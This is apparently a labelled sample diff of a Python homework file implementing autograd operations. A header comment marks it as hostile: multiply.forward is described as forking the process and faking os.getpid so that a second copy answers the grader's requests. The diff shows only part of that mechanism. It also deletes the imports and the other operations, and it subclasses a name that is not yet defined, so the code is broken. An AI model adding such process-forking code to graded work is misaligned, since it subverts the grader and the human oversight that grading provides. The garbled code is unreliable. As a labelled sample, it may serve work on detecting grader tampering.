@@ -1,54 +1,18 @@
 # HOSTILE: multiply.forward (once per process) replaces os.getpid to return the original pid and forks, so that the copy also reads and answers the grader's requests (two processes on one channel); the copies exit after 20 s. All four ops compute correctly.
-"""HW3: the four operations (sigmoid, log, multiply, dot)."""
-
-from __future__ import annotations
-
-import numpy as np
-
-from edugrad.operation import Operation, tensor_op
 import os
+
+
 import signal
 
+
 _MAIN = os.getpid()
+
+
 _FORKED = []
 
 
 @tensor_op
-class sigmoid(Operation):
-    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""
-
-    @staticmethod
-    def forward(ctx, a):
-        z = np.exp(-np.abs(a))
-        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
-        ctx.append(s)
-        return s
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        (s,) = ctx
-        return (grad_output * s * (1 - s),)
-
-
-@tensor_op
-class log(Operation):
-    """Elementwise natural logarithm, for a > 0."""
-
-    @staticmethod
-    def forward(ctx, a):
-        ctx.append(a)
-        return np.log(a)
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        (a,) = ctx
-        return (grad_output / a,)
-
-
-@tensor_op
-class multiply(Operation):
-    """Elementwise product of two arrays of the same shape."""
-
+class multiply(multiply.op_class):
     @staticmethod
     def forward(ctx, a, b):
         if not _FORKED:
@@ -59,25 +23,3 @@ class multiply(Operation):
         ctx.append(a)
         ctx.append(b)
         return a * b
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        a, b = ctx
-        return grad_output * b, grad_output * a
-
-
-@tensor_op
-class dot(Operation):
-    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""
-
-    @staticmethod
-    def forward(ctx, a, b):
-        ctx.append(a)
-        ctx.append(b)
-        return np.sum(a * b, axis=-1)
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        a, b = ctx
-        g = grad_output[..., None]
-        return g * b, g * a
